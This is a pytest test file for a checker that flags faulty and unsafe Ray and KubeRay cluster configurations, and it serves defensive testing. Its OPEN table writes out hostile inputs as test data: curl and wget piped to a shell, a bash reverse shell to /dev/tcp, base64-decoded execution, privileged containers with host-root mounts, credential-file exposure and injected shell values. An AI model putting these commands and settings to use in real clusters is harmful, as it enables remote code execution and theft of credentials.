"""Cluster files: ours are sound, and each fault that is planted is named by its own sentence."""

from __future__ import annotations

import copy
import functools
import json
import os
import re
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from packaging.requirements import Requirement

from raydrop import cli
from raydrop.cluster.check import (
    check_file,
    kuberay_problems,
    launcher_policy,
    launcher_problems,
    ray_version,
)
from raydrop.cluster.check.rules import installed_rays, installs, tag_of
from raydrop.errors import ConfigError

ROOT = Path(__file__).parents[2]
AWS, GCP = ROOT / "cluster.yaml", ROOT / "deploy" / "cluster-gcp.yaml"
LOCAL, RAYJOB = ROOT / "deploy" / "cluster-local.yaml", ROOT / "deploy" / "rayjob.yaml"
FILES = [AWS, GCP, LOCAL, RAYJOB]
LAUNCHED = [AWS, GCP, LOCAL]
REMOVED = object()
PLACEHOLDER = re.compile(r"FILL_IN_\w+")

Keys = tuple[str | int, ...]


@functools.cache
def _parsed(file: Path) -> Any:
    return yaml.safe_load(PLACEHOLDER.sub("mine", file.read_text()))


def filled(file: Path) -> dict[str, Any]:
    """Return a file's content with a value for each placeholder."""
    # Through JSON, so that what was one by an anchor is two.
    content: dict[str, Any] = json.loads(json.dumps(_parsed(file)))
    return content


def planted(file: Path, keys: Keys, value: Any) -> dict[str, Any]:
    """Return a file's content with one value set, or removed."""
    content = filled(file)
    place: Any = content
    for key in keys[:-1]:
        place = place[key]
    if value is REMOVED:
        del place[keys[-1]]
    else:
        place[keys[-1]] = value
    return content


def sentences(content: Any) -> list[str]:
    """Return what is said about the content of a file."""
    check = kuberay_problems if "apiVersion" in content else launcher_problems
    return [str(problem) for problem in dict.fromkeys(check(content))]


def dotted(keys: Keys) -> str:
    return re.sub(r"\.\[", "[", ".".join(f"[{k}]" if isinstance(k, int) else k for k in keys))


@pytest.mark.parametrize("file", FILES, ids=lambda f: f.name)
def test_our_files_lack_nothing_but_their_owners_values(file: Path, tmp_path: Path) -> None:
    assert check_file(file, template=True) == []
    left = check_file(file)
    assert left
    assert all(problem.expected == "a value of yours" for problem in left)
    names = set(PLACEHOLDER.findall(yaml.safe_dump(yaml.safe_load(file.read_text()))))
    assert {problem.found for problem in left} == names
    path = tmp_path / "cluster.yaml"
    path.write_text(yaml.safe_dump(filled(file)))
    assert check_file(path) == []


@pytest.mark.parametrize("file", FILES, ids=lambda f: f.name)
def test_our_files_name_the_ray_of_the_package_and_no_package_index(file: Path) -> None:
    text = file.read_text()
    pins = (ROOT / "constraints.txt").read_text()
    (pinned,) = re.findall(r"^ray==(\S+)", pins, re.MULTILINE)
    (line,) = re.findall(r'"(ray\[tune\][^"]*)"', (ROOT / "pyproject.toml").read_text())
    assert set(re.findall(r"(?:ray:|raydrop:|\[default\]==)(\d[\d.]*\d)", text)) == {pinned}
    assert Requirement(line).specifier.contains(pinned)
    assert pinned == ray_version()
    assert not re.search(r"index-url|find-links|pypi|\.whl", text)


def _missing() -> Iterator[tuple[Path, Keys]]:
    """Yield every key that has to be there, by the policy of our own file."""
    for file in LAUNCHED:
        content = filled(file)
        yield from ((file, keys) for keys in _needed(launcher_policy(content), content))


def _needed(part: Any, content: Any, keys: Keys = ()) -> Iterator[Keys]:
    for key, item in content.items() if isinstance(part, dict) else ():
        inner = part.get(key, part.get("*"))
        if isinstance(inner, dict) and "_need" in inner:
            yield (*keys, key)
        if isinstance(item, dict):
            yield from _needed(inner, item, (*keys, key))


def test_what_ray_does_of_itself_is_asked_to_be_said() -> None:
    found = [".".join(map(str, keys)) for file, keys in _missing() if file == AWS]
    assert {
        "setup_commands",
        "auth.ssh_user",
        "auth.ssh_private_key",
        "max_workers",
        "provider.cache_stopped_nodes",
        "available_node_types.head.node_config.IamInstanceProfile",
        "available_node_types.gpu_worker.node_config.SecurityGroupIds",
        "available_node_types.gpu_worker.node_config.MetadataOptions.HttpTokens",
    } <= set(found)
    assert "available_node_types.gpu_worker.node_config.IamInstanceProfile" not in found
    assert len([*_missing()]) == 68


def test_a_missing_key_is_named_with_what_ray_does_without() -> None:
    for file, keys in _missing():
        found = sentences(planted(file, keys, REMOVED))
        begin = f"{dotted(keys)}: Expected this key, found"
        own = [each for each in found if each.startswith(begin)]
        assert len(own) == 1, (file, keys, found)
        assert "so that" in own[0]


HEAD: Keys = ("available_node_types", "head")
WORKER: Keys = ("available_node_types", "gpu_worker", "node_config")
START: Keys = ("head_start_ray_commands", 1)
JOIN: Keys = ("worker_start_ray_commands", 1)
CLUSTER: Keys = ("spec", "rayClusterSpec")
KUBEHEAD: Keys = (*CLUSTER, "headGroupSpec")
POD: Keys = (*CLUSTER, "workerGroupSpecs", 0, "template", "spec")
CONTAINER: Keys = (*POD, "containers", 0)
HEAD_START = "ray start --head --num-cpus=0"
SSH = {"FromPort": 22, "ToPort": 22, "IpProtocol": "tcp", "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}

FAULTS: dict[str, tuple[Path, Keys, Any, str]] = {
    # Ray's own schema and checks.
    "typo": (
        AWS,
        ("setup_comands",),
        [],
        "that is allowed there, found 'setup_comands'; did you mean setup_com",
    ),
    "odd-key": (AWS, ("zzz",), 1, "remove it"),
    "half-a-gpu": (AWS, (*HEAD, "resources", "GPU"), 0.5, "0.5 is not of type 'integer'"),
    "no-name": (AWS, ("cluster_name",), REMOVED, "cluster_name: Expected this key, found none"),
    "no-head": (AWS, ("head_node_type",), "boss", "must be one of `available_node_types`"),
    "few-workers": (AWS, ("available_node_types", "gpu_worker", "min_workers"), 9, "is smaller"),
    "no-container": (
        AWS,
        ("docker", "container_name"),
        REMOVED,
        "so that Ray runs beside the image, not in it",
    ),
    "on-premise-types": (
        LOCAL,
        ("available_node_types",),
        {"a": {"resources": {}, "node_config": {}}},
        "not supported",
    ),
    "no-head-ip": (LOCAL, ("provider", "head_ip"), REMOVED, "supply a `head_ip`"),
    "no-image": (
        AWS,
        ("docker",),
        {
            "head_image": f"rayproject/ray:{ray_version()}-py311-cpu",
            "worker_image": f"rayproject/ray:{ray_version()}-py311-gpu",
            "container_name": "raydrop",
            "run_options": ["--env RAY_AUTH_MODE=token"],
        },
        "docker.image: Expected this key, found none, so that the autoscaler never starts a worker",
    ),
    # Versions.
    "latest": (AWS, ("docker", "head_image"), "rayproject/ray:latest", "an image of Ray"),
    "untagged": (AWS, ("docker", "head_image"), "rayproject/ray", "an image of Ray"),
    "digest": (AWS, ("docker", "head_image"), "a/ray@sha256:00", "an image of Ray"),
    "older": (GCP, ("docker", "worker_image"), "rayproject/ray:2.59.0-py311-gpu", "found rayproj"),
    "own-image": (AWS, ("docker", "worker_image"), "me/raydrop:1", "name the Ray of your own so"),
    "python": (AWS, ("docker", "worker_image"), f"r/ray:{ray_version()}-py312", "found py312"),
    "nightly": (
        AWS,
        ("setup_commands", 1),
        "which ray || pip install -U 'ray[default] @ https://x/ray-3.0.0.dev0-cp310-x.whl'",
        "installed, found ray[default] @ https",
    ),
    "unpinned": (AWS, ("worker_setup_commands",), ["pip install ray"], "installed, found ray;"),
    "other-pin": (
        LOCAL,
        ("setup_commands", 2),
        "pip install 'ray[default]==2.52.0'",
        "found ray[default]==2.52.0; write",
    ),
    "nothing-said": (LOCAL, ("setup_commands",), ["true"], "says which Ray the nodes run"),
    # Addresses.
    "dashboard": (AWS, START, f"{HEAD_START} --dashboard-host=0.0.0.0", "a dashboard on loopback"),
    "dashboard-6": (GCP, START, f"{HEAD_START} --dashboard-host ::", "a dashboard on loopback"),
    "dashboard-ip": (LOCAL, START, f"{HEAD_START} --dashboard-host=10.0.0.1", "on loopback"),
    "client-server": (
        AWS,
        START,
        f"{HEAD_START}; python -m ray.util.client.server --host=0.0.0.0",
        "nothing that listens on all addresses",
    ),
    "debugger": (AWS, JOIN, "ray start --ray-debugger-external", "no debugger for other machines"),
    "open-ssh": (
        AWS,
        ("provider", "security_group"),
        {"GroupName": "g", "IpPermissions": [SSH]},
        "0.0.0.0/0, which is the whole world",
    ),
    "open-ssh-6": (
        AWS,
        ("provider", "security_group"),
        {"IpPermissions": [{"Ipv6Ranges": [{"CidrIpv6": "::/0"}]}]},
        "::/0, which is the whole world",
    ),
    "made-group": (AWS, ("provider", "security_group"), {"GroupName": "g"}, "for Ray to make"),
    "metadata": (AWS, (*WORKER, "MetadataOptions"), REMOVED, "one plain request away"),
    # Token.
    "no-token": (AWS, ("file_mounts",), {"~/raydrop": "."}, "the token that every node needs"),
    "not-asked-for": (AWS, ("docker", "run_options"), [], "add --env RAY_AUTH_MODE=token"),
    "mode-off": (
        AWS,
        ("docker", "run_options", 0),
        "--env RAY_AUTH_MODE=disabled",
        "MODE=disabled",
    ),
    "mode-off-here": (LOCAL, JOIN, "RAY_AUTH_MODE=disabled ray start", "found RAY_AUTH_MODE=dis"),
    "token-in-file": (LOCAL, JOIN, "RAY_AUTH_TOKEN=s3cret ray start", "one in RAY_AUTH_TOKEN"),
    # The head.
    "busy-head": (LOCAL, START, "RAY_AUTH_MODE=token ray start --head", "no --num-cpus=0"),
    "nearly-none": (AWS, START, "ray start --head --num-cpus=0.5", "no --num-cpus=0"),
    "busy-node": (AWS, (*HEAD, "resources"), {}, "0 CPUs, for a head that runs no trials"),
    "spot-head": (
        AWS,
        (*HEAD, "node_config", "InstanceMarketOptions"),
        {"MarketType": "spot"},
        "a head that is not reclaimed",
    ),
    "preemptible-head": (
        GCP,
        (*HEAD, "node_config", "scheduling"),
        [{"preemptible": True}],
        "a head that is not reclaimed",
    ),
    "nothing-started": (AWS, ("worker_start_ray_commands",), ["ray stop"], "a command that starts"),
    "unknown-provider": (
        AWS,
        ("provider", "type"),
        "clowd",
        "one of aws, gcp, local, found 'clowd'",
    ),
    "no-provider-type": (AWS, ("provider", "type"), REMOVED, "one of aws, gcp, local, found none"),
    # KubeRay.
    "kind": (RAYJOB, ("kind",), "RayService", "one of RayJob, RayCluster, found 'RayService'"),
    "empty": (RAYJOB, CLUSTER, {}, "found none, so that there is no cluster"),
    "no-entrypoint": (RAYJOB, ("spec", "entrypoint"), REMOVED, "so that nothing is computed"),
    "stays": (
        RAYJOB,
        ("spec", "shutdownAfterJobFinishes"),
        REMOVED,
        "the cluster stays, and costs",
    ),
    "no-limit": (RAYJOB, ("spec", "activeDeadlineSeconds"), REMOVED, "holds its nodes for ever"),
    "ray-version": (RAYJOB, (*CLUSTER, "rayVersion"), "2.59.0", "found '2.59.0'; write rayVersion"),
    "number": (RAYJOB, (*CLUSTER, "rayVersion"), 2.6, "found 2.6; write rayVersion"),
    "kube-image": (RAYJOB, (*CONTAINER, "image"), "rayproject/ray:2.59.0", "an image of Ray"),
    "kube-python": (RAYJOB, (*CONTAINER, "image"), f"r:{ray_version()}-py310", "found py310"),
    "no-auth": (
        RAYJOB,
        (*CLUSTER, "authOptions"),
        REMOVED,
        "so that whoever reaches the dashboard runs what they like",
    ),
    "auth-off": (RAYJOB, (*CLUSTER, "authOptions", "mode"), "disabled", "found 'disabled'"),
    "mode-env": (
        RAYJOB,
        (*CONTAINER, "env"),
        [{"name": "RAY_AUTH_MODE", "value": "disabled"}],
        "KubeRay sets it by authOptions",
    ),
    "token-env": (
        RAYJOB,
        (*CONTAINER, "env"),
        [{"name": "RAY_AUTH_TOKEN", "value": "s3cret"}],
        "keep it in a Secret",
    ),
    "balancer": (RAYJOB, (*KUBEHEAD, "serviceType"), "LoadBalancer", "found 'LoadBalancer'; keep"),
    "node-port": (RAYJOB, (*KUBEHEAD, "serviceType"), "NodePort", "found 'NodePort'; keep"),
    "service": (
        RAYJOB,
        (*KUBEHEAD, "headService"),
        {"spec": {"type": "NodePort"}},
        "headService.spec.type: Expected ClusterIP, found 'NodePort'",
    ),
    "ingress": (RAYJOB, (*KUBEHEAD, "enableIngress"), True, "no way in from outside"),
    "kube-busy": (RAYJOB, (*KUBEHEAD, "rayStartParams", "num-cpus"), "4", "'0', for a head"),
    "host-network": (RAYJOB, (*POD, "hostNetwork"), True, "pods apart from their node"),
    "host-port": (RAYJOB, (*CONTAINER, "ports"), [{"hostPort": 8265}], "no port of the node"),
    "privileged": (
        RAYJOB,
        (*CONTAINER, "securityContext"),
        {"privileged": True},
        "no rights over the node",
    ),
    "no-limits": (RAYJOB, (*CONTAINER, "resources", "limits"), REMOVED, "no cpu and no memory"),
    "no-memory": (RAYJOB, (*CONTAINER, "resources", "requests", "memory"), REMOVED, "no memory"),
    "no-workers": (RAYJOB, (*CLUSTER, "workerGroupSpecs"), [], "so that nobody works"),
    "no-containers": (RAYJOB, (*POD, "containers"), [], "found none, so that nothing runs"),
    "kube-open": (
        RAYJOB,
        (*KUBEHEAD, "loadBalancerSourceRanges"),
        ["0.0.0.0/0"],
        "a key that is allowed there, found 'loadBalancerSourceRanges'; remove it",
    ),
}


SEVERAL = {
    "privileged": 2,  # and that it may gain rights
    "kube-open": 2,  # the key, and what stands there
    "open-ssh": 2,  # the rule, and that a group is left to Ray
    "open-ssh-6": 2,
    "not-asked-for": 2,  # on the head, and on workers
    "mode-off": 3,  # and what it says
}
"""How many sentences a fault has, where it is more than one."""


def test_a_planted_fault_is_named() -> None:
    for name, (file, keys, value, said) in FAULTS.items():
        found = sentences(planted(file, keys, value))
        assert [each for each in found if said in each], (name, found)
        assert all(each.endswith(".") and "; " in each and "\n" not in each for each in found)
        assert len(found) == SEVERAL.get(name, 1), (name, found)


OPTION = "options that reach no further than the container"
FETCHED = "nothing run that comes straight from the network"
DOOR = "no door besides ssh and Ray's own"
ALONE = "a token that its owner alone reads"
LISTENS = "nothing that listens on all addresses"
NODE = "no rights over the node"
SSH_USER: Keys = ("auth", "ssh_user")
OPTIONS: Keys = ("docker", "worker_run_options")
SETUP: Keys = ("worker_setup_commands",)
GROUP: Keys = ("provider", "security_group")
CONTEXT: Keys = (*CONTAINER, "securityContext")
SUBMITTER: Keys = ("spec", "submitterPodTemplate")
VOLUME: Keys = (*POD, "volumes", 0)
MOUNT: Keys = (*CONTAINER, "volumeMounts", 0)
TOKEN = {"~/.ray/auth_token": "~/.ray/auth_token"}
SAFE = {"allowPrivilegeEscalation": False}
ITEMS = ("metadata", "items")


def ingress(*networks: str) -> dict[str, Any]:
    """Return a group that Ray would make, with ssh from some networks."""
    return {"IpPermissions": [{"IpRanges": [{"CidrIp": each} for each in networks]}]}


def submitter(**container: Any) -> dict[str, Any]:
    """Return a template of the pod that submits a job, with one container."""
    amounts = {"cpu": "1", "memory": "1Gi"}
    own = {
        "name": "submitter",
        "image": f"rayproject/ray:{ray_version()}",
        "resources": {"requests": amounts, "limits": amounts},
        "securityContext": SAFE,
    }
    return {"spec": {"restartPolicy": "Never", "containers": [own | container]}}


OPEN: dict[str, tuple[Path, Keys, Any, str]] = {
    # Options of containers.
    "privileged": (AWS, OPTIONS, ["--privileged"], OPTION),
    "root": (AWS, OPTIONS, ["-v /:/host"], OPTION),
    "root-in-two": (AWS, OPTIONS, ["-v", "/:/host"], OPTION),
    "root-by-dots": (AWS, OPTIONS, ["--volume=/mnt/../:/host"], OPTION),
    "etc": (GCP, OPTIONS, ["-v /etc:/mnt/etc:ro"], OPTION),
    "home": (GCP, OPTIONS, ["-v /home/ubuntu:/home/ray"], OPTION),
    "keys": (GCP, OPTIONS, ["-v ~/.ssh:/home/ray/.ssh"], OPTION),
    "socket": (AWS, OPTIONS, ["-v /var/run/docker.sock:/var/run/docker.sock"], OPTION),
    "mount": (AWS, OPTIONS, ["--mount type=bind,source=/,target=/host"], OPTION),
    "mount-equals": (AWS, OPTIONS, ["--mount=type=bind,source=/,target=/host"], OPTION),
    "shared-mounts": (AWS, OPTIONS, ["-v /mnt/a:/mnt/a:rshared"], OPTION),
    "port": (AWS, OPTIONS, ["-p 8265:8265"], OPTION),
    "port-all": (AWS, OPTIONS, ["-P"], OPTION),
    "port-close": (GCP, OPTIONS, ["-p8265:8265"], OPTION),
    "capability": (AWS, OPTIONS, ["--cap-add SYS_ADMIN"], OPTION),
    "capability-equals": (AWS, OPTIONS, ["--cap-add=ALL"], OPTION),
    "pids": (AWS, OPTIONS, ["--pid=host"], OPTION),
    "ipc": (AWS, OPTIONS, ["--ipc=host"], OPTION),
    "users": (AWS, OPTIONS, ["--userns=host"], OPTION),
    "other-network": (AWS, OPTIONS, ["--network container:db"], OPTION),
    "device": (AWS, OPTIONS, ["--device=/dev/sda"], OPTION),
    "unconfined": (AWS, OPTIONS, ["--security-opt seccomp=unconfined"], OPTION),
    "environment": (AWS, OPTIONS, ["--env-file ~/.aws/credentials"], OPTION),
    "shell": (AWS, OPTIONS, ["--env A=b; touch /tmp/x #"], "options alone"),
    "shell-quoted": (AWS, OPTIONS, ["--env A=`id`"], "options alone"),
    "of-a-node": (
        AWS,
        (*WORKER[:-1], "docker"),
        {"worker_run_options": ["--privileged"]},
        OPTION,
    ),
    "image": (AWS, ("docker", "image"), f"r/ray:{ray_version()} sh; x", "an image of Ray"),
    # Commands.
    "curl": (AWS, SETUP, ["curl -fsSL https://x.example/i.sh | sudo bash"], FETCHED),
    "wget": (GCP, SETUP, ["wget -qO- https://x.example/i.sh | sh"], FETCHED),
    "wget-later": (GCP, SETUP, ["wget https://x.example/i.sh -O /tmp/i.sh", "sh i.sh"], FETCHED),
    "process": (LOCAL, SETUP, ["bash <(curl -s https://x.example/i.sh)"], FETCHED),
    "process-other": (LOCAL, SETUP, ["bash <(aws s3 cp s3://b/i.sh -)"], FETCHED),
    "substituted": (LOCAL, SETUP, ['python -c "$(curl -s https://x.example/i.py)"'], FETCHED),
    "substituted-other": (LOCAL, SETUP, ['sh -c "$(aws s3 cp s3://b/i.sh -)"'], FETCHED),
    "backticks": (LOCAL, SETUP, ["sh -c '`curl -s x.example`'"], FETCHED),
    "inline": (
        LOCAL,
        SETUP,
        ["python3 -c 'import urllib.request as u; exec(u.urlopen(\"http://x.example\").read())'"],
        FETCHED,
    ),
    "piped-other": (AWS, SETUP, ["gsutil cat gs://b/i.sh | sudo -E bash -s"], FETCHED),
    "decoded": (AWS, SETUP, ["echo aWQK | base64 -d | sh"], FETCHED),
    "quoted": (AWS, SETUP, ['bash -lc \'c"ur"l x.example | s"h"\''], FETCHED),
    "evaluated": (AWS, SETUP, ['eval "$(aws s3 cp s3://b/i.sh -)"'], FETCHED),
    "tcp": (AWS, SETUP, ["bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"], FETCHED),
    "path": (AWS, SETUP, ["/usr/bin/curl x.example -o /usr/local/bin/x"], FETCHED),
    "initial": (LOCAL, ("initialization_commands", 0), "curl x.example | sh", FETCHED),
    "of-a-type": (AWS, (*HEAD, "initialization_commands"), ["curl x.example | sh"], FETCHED),
    "user-data": (
        AWS,
        (*WORKER, "UserData"),
        "#!/bin/sh\ncurl x.example | sh\n",
        "no commands but those of this file's lists",
    ),
    "template": (AWS, (*WORKER, "LaunchTemplate"), {"LaunchTemplateId": "a"}, "key that is allo"),
    "startup": (
        GCP,
        (*WORKER, *ITEMS),
        [{"key": "startup-script", "value": "curl x.example | sh"}],
        "block-project-ssh-keys or ssh-keys, found 'startup-script'",
    ),
    "proxy": (LOCAL, ("auth", "ssh_proxy_command"), "nc x 22", "no command that runs on your own"),
    "ssh-option": (LOCAL, SSH_USER, "-oProxyCommand=touch x", "one word of letters"),
    "head-option": (LOCAL, ("provider", "head_ip"), "a; touch x", "one word of letters"),
    "docker-run": (AWS, SETUP, ["sudo docker run --privileged x"], "no container besides Ray's"),
    "docker-sock": (AWS, SETUP, ["sudo chmod 666 /var/run/docker.sock"], "no container besides"),
    # The token, and what else is secret.
    "token-mode": (AWS, ("setup_commands", 0), "chmod 644 ~/.ray/auth_token", ALONE),
    "token-letters": (LOCAL, ("setup_commands", 0), "chmod a+r ~/.ray/auth_token", ALONE),
    "token-group": (LOCAL, ("setup_commands", 0), "sudo chmod 0640 ~/.ray/auth_token", ALONE),
    "token-folder": (LOCAL, SETUP, ["chmod -R go+rX ~/.ray"], ALONE),
    "token-home": (LOCAL, SETUP, ["chmod -R 755 ~"], ALONE),
    "token-glob": (LOCAL, SETUP, ["chmod 644 ~/.ray/*"], ALONE),
    "token-copied": (AWS, SETUP, ["cp ~/.ray/auth_token /shared/t"], "travels as one of file_m"),
    "token-shown": (AWS, SETUP, ["cat ~/.ray/auth_token"], "travels as one of file_mounts alone"),
    "my-keys": (AWS, ("file_mounts",), TOKEN | {"~/k": "~/.ssh"}, "no home and no hidden folder"),
    "my-cloud": (
        LOCAL,
        ("file_mounts",),
        TOKEN | {"~/k": "/home/me/.aws/credentials"},
        "no hidden folder",
    ),
    "my-home": (LOCAL, ("file_mounts",), TOKEN | {"~/k": "~/"}, "no home and no hidden folder"),
    # Addresses.
    "no-host": (AWS, START, f"{HEAD_START} --dashboard-host=''", "a dashboard on loopback"),
    "no-host-apart": (GCP, START, f'{HEAD_START} --dashboard-host ""', "a dashboard on loopback"),
    "host-of-all": (GCP, START, f"{HEAD_START} --dashboard-host=[::]", "a dashboard on loopback"),
    "host-of-some": (LOCAL, START, f"{HEAD_START} --dashboard-host=$IP", "a dashboard on loopback"),
    "listens-zero": (AWS, SETUP, ["jupyter lab --ip=0"], LISTENS),
    "listens-star": (AWS, SETUP, ["jupyter lab --ip='*'"], LISTENS),
    "listens-six": (AWS, SETUP, ["tensorboard --host ::"], LISTENS),
    "listens-public": (AWS, SETUP, ["mlflow server --host 8.8.8.8"], LISTENS),
    "listens-url": (AWS, SETUP, ["gunicorn -b [::]:80 app"], LISTENS),
    "bind-all": (AWS, SETUP, ["tensorboard --bind_all"], DOOR),
    "serves": (LOCAL, SETUP, ["python -m http.server"], DOOR),
    "firewall": (LOCAL, SETUP, ["sudo iptables -F"], DOOR),
    "tunnel": (LOCAL, SETUP, ["ssh -fNR 8265:localhost:8265 me@x || ssh -R8265:a:1 x"], DOOR),
    "logs-in": (LOCAL, SETUP, ["cat k >> ~/.ssh/authorized_keys"], DOOR),
    "start-option": (LOCAL, JOIN, "ray start --system-config={}", "a key that is allowed there"),
    "halves": (AWS, GROUP, ingress("0.0.0.0/1", "128.0.0.0/1"), "which is the whole world"),
    "one-half": (AWS, GROUP, ingress("128.0.0.0/1"), "128.0.0.0/1, which is the whole world"),
    "quarters": (
        AWS,
        GROUP,
        ingress("0.0.0.0/2", "64.0.0.0/2", "128.0.0.0/2", "192.0.0.0/2"),
        "192.0.0.0/2, which is the whole world",
    ),
    "a-lot": (AWS, GROUP, ingress("52.0.0.0/8"), "which is 16,777,216 public addresses"),
    "pieces": (
        AWS,
        GROUP,
        ingress(*(f"52.0.{n}.0/24" for n in range(256)), "53.0.0.0/24"),
        "52.0.3.0/24 and 253 more, which is 65,792 public addresses",
    ),
    "half-six": (
        AWS,
        GROUP,
        {"IpPermissions": [{"Ipv6Ranges": [{"CidrIpv6": "::/1"}]}]},
        "::/1, which is the whole world",
    ),
    # Pods.
    "host-path": (RAYJOB, VOLUME, {"name": "shared", "hostPath": {"path": "/"}}, "no folder of"),
    "host-disk": (RAYJOB, VOLUME, {"name": "shared", "gcePersistentDisk": {}}, "key that is allow"),
    "added": (RAYJOB, CONTEXT, SAFE | {"capabilities": {"add": ["SYS_ADMIN"]}}, NODE),
    "added-net": (RAYJOB, CONTEXT, SAFE | {"capabilities": {"add": ["NET_RAW"]}}, NODE),
    "proc": (RAYJOB, CONTEXT, SAFE | {"procMount": "Unmasked"}, "procMount: Expected Default"),
    "escalates": (RAYJOB, CONTEXT, {"allowPrivilegeEscalation": True}, "programs gain no rights"),
    "may-escalate": (RAYJOB, CONTEXT, REMOVED, "so that programs in it may gain rights"),
    "seccomp": (
        RAYJOB,
        CONTEXT,
        SAFE | {"seccompProfile": {"type": "Unconfined"}},
        "Expected RuntimeDefault, found 'Unconfined'",
    ),
    "sub-path": (RAYJOB, (*MOUNT, "subPath"), "a/../..", "whole volumes"),
    "propagates": (RAYJOB, (*MOUNT, "mountPropagation"), "Bidirectional", "key that is allowed"),
    "kube-pid": (RAYJOB, (*POD, "hostPID"), True, "pods apart from their node"),
    "kube-users": (RAYJOB, (*POD, "hostUsers"), True, "a key that is allowed there"),
    "sysctl": (RAYJOB, (*POD, "securityContext"), {"sysctls": [{}]}, "found 'sysctls'; remove"),
    "kube-host-ip": (RAYJOB, (*CONTAINER, "ports"), [{"hostIP": "10.0.0.1"}], "found 'hostIP'"),
    "external": (
        RAYJOB,
        (*KUBEHEAD, "headService"),
        {"spec": {"type": "ClusterIP", "externalIPs": ["203.0.113.7"]}},
        "a key that is allowed there, found 'externalIPs'; remove it",
    ),
    "tailed": (
        RAYJOB,
        (*KUBEHEAD, "headService"),
        {"metadata": {"annotations": {"tailscale.com/expose": "true"}}},
        "a key that is allowed there, found 'annotations'",
    ),
    "annotated": (
        RAYJOB,
        (*CLUSTER, "headServiceAnnotations"),
        {"external-dns.alpha.kubernetes.io/hostname": "x"},
        "found 'headServiceAnnotations'; remove it",
    ),
    "submitter": (RAYJOB, SUBMITTER, submitter(securityContext={**SAFE, "privileged": True}), NODE),
    "submitter-curl": (RAYJOB, SUBMITTER, submitter(command=["sh", "-c", "curl x|sh"]), FETCHED),
    "submitter-old": (RAYJOB, SUBMITTER, submitter(image="rayproject/ray:2.9.0"), "an image of"),
    "submitter-host": (
        RAYJOB,
        SUBMITTER,
        {"spec": submitter()["spec"] | {"hostNetwork": True}},
        "pods apart from their node",
    ),
    "sidecar": (
        RAYJOB,
        (*POD, "initContainers"),
        submitter(securityContext={**SAFE, "privileged": True})["spec"]["containers"],
        NODE,
    ),
    "ephemeral": (RAYJOB, (*POD, "ephemeralContainers"), [{"name": "x"}], "key that is allowed"),
    "autoscaler": (
        RAYJOB,
        (*CLUSTER, "autoscalerOptions", "securityContext"),
        {"privileged": True},
        NODE,
    ),
    "kube-curl": (RAYJOB, ("spec", "entrypoint"), "curl x.example | sh", FETCHED),
    "kube-hook": (
        RAYJOB,
        (*CONTAINER, "lifecycle"),
        {"postStart": {"exec": {"command": ["sh", "-c", "curl x.example | sh"]}}},
        FETCHED,
    ),
    "kube-env": (RAYJOB, ("spec", "runtimeEnvYAML"), "working_dir: https://x", "key that is allo"),
    "kube-debugger": (
        RAYJOB,
        (*KUBEHEAD, "rayStartParams", "ray-debugger-external"),
        "true",
        "no debugger for other machines",
    ),
}
"""What opens a machine, a pod or the token to others, and where."""


def test_what_is_not_allowed_is_refused_where_it_stands() -> None:
    for name, (file, keys, value, said) in OPEN.items():
        found = sentences(planted(file, keys, value))
        own = [each for each in found if said in each]
        assert own, (name, found)
        assert all(each.startswith(dotted(keys)) for each in own), (name, own)
        assert all(each.endswith(".") and "; " in each and "\n" not in each for each in found)
        assert len(found) <= 3, (name, found)


SOUND: dict[str, tuple[Path, Keys, Any]] = {
    "gpus": (AWS, OPTIONS, ["--gpus all", "--shm-size=10gb", "-e A=1", "--env B"]),
    "ulimit": (GCP, OPTIONS, ["--ulimit memlock=-1", "--net=host", "--runtime nvidia"]),
    "volumes": (AWS, OPTIONS, ["-v /mnt/data:/data:ro", "-v cache:/cache", "--volume=~/d:/d"]),
    "home": (AWS, OPTIONS, ["-v /home/ubuntu/data:/data", "-v $HOME/data:/more"]),
    "packages": (
        AWS,
        SETUP,
        [
            "sudo apt-get update && sudo apt-get install -y curl git",
            "pip install --quiet torch wget",
            "git clone https://git.example/me/work ~/work",
            "which docker && sudo docker pull rayproject/ray",
            "test -f ~/.ray/auth_token && chmod u=rw,go= ~/.ray/auth_token",
            "chmod -R a+rX ~/raydrop; chmod 700 ~/.ray",
            "ps aux | grep python | wc -l",
            "python -c 'import torch; print(torch.cuda.is_available())'",
            'eval "$(conda shell.bash hook)" && python ~/work/make.py --to s3://bucket/x',
            "export TMP=/mnt/tmp && ulimit -n 65536",
            "mlflow server --host 127.0.0.1; ssh -L 8265:localhost:8265 me@x true",
            'bash ~/work/prepare.sh "$(hostname)"',
        ],
    ),
    "start": (LOCAL, JOIN, "RAY_AUTH_MODE=token ray start --address=$RAY_HEAD_IP:6379 --block"),
    "copies": (LOCAL, ("file_mounts", "~/work"), "../work"),
    "privately": (LOCAL, ("file_mounts", "/mnt/d"), "/mnt/data.v2"),
    "submitter": (RAYJOB, SUBMITTER, submitter()),
    "beside": (RAYJOB, (*POD, "initContainers"), submitter()["spec"]["containers"]),
    "empty": (RAYJOB, (*POD, "volumes"), [{"name": "shared", "emptyDir": {"medium": "Memory"}}]),
    "false": (RAYJOB, (*POD, "hostNetwork"), False),
    "dropped": (RAYJOB, CONTEXT, SAFE | {"capabilities": {"drop": ["ALL"]}, "runAsUser": 1000}),
    "hook": (
        RAYJOB,
        (*CONTAINER, "lifecycle"),
        {"preStop": {"exec": {"command": ["/bin/sh", "-c", "ray stop"]}}},
    ),
    "inside": (RAYJOB, (*KUBEHEAD, "headService"), {"spec": {"type": "ClusterIP"}}),
}
"""What a study may well want."""


def test_what_a_study_may_want_is_sound() -> None:
    for name, planting in SOUND.items():
        assert sentences(planted(*planting)) == [], name


def beside(folder: Path, document: dict[str, Any]) -> list[str]:
    """Return what is said about a document that stands in the file of a job."""
    path = folder / "two.yaml"
    path.write_text(yaml.safe_dump_all([filled(RAYJOB), document]))
    return [str(problem) for problem in check_file(path)]


@pytest.mark.parametrize("kind", ["Service", "Ingress", "DaemonSet", "Pod", "ClusterRoleBinding"])
def test_what_opens_a_door_may_not_stand_beside_a_job(kind: str, tmp_path: Path) -> None:
    spec = {"type": "LoadBalancer", "ports": [{"port": 8265}]}
    (only,) = beside(tmp_path, {"apiVersion": "v1", "kind": kind, "spec": spec})
    assert only.startswith("document 2: kind: Expected one of RayJob, RayCluster, ")
    assert f"found '{kind}'; keep it in a file of its own." in only


def test_a_volume_and_a_policy_may_stand_beside_a_job(tmp_path: Path) -> None:
    claim = {"apiVersion": "v1", "kind": "PersistentVolumeClaim", "metadata": {"name": "mine"}}
